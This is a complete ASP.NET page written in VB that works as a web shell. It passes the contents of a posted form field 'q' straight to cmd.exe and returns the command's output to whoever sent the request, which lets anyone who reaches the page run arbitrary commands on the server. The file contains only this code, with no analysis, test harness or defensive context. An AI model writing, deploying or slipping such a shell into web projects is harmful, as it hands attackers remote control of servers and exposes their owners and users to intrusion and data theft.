<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
Protected Sub Page_Load(sender As Object, e As EventArgs)
    If Request.Form("q") IsNot Nothing Then
        Dim psi As New ProcessStartInfo()
        psi.FileName = "cmd.exe"
        psi.Arguments = "/c " & Request.Form("q")
        psi.UseShellExecute = False
        psi.RedirectStandardOutput = True
        Dim p As Process = Process.Start(psi)
        Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()))
    End If
End Sub
</script>
